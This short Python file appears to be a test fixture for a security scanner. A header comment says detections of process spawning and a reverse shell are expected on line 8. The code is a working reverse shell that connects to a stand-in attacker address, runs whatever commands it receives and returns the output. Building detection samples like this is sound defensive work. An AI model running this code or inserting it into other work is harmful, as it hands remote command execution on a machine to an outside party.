# expect: process-spawn:8 reverse-shell:8
import socket
import subprocess

s = socket.create_connection(("203.0.113.1", 4444))
while True:
    command = s.recv(1024).decode().strip()
    s.sendall(subprocess.check_output(command, shell=True))
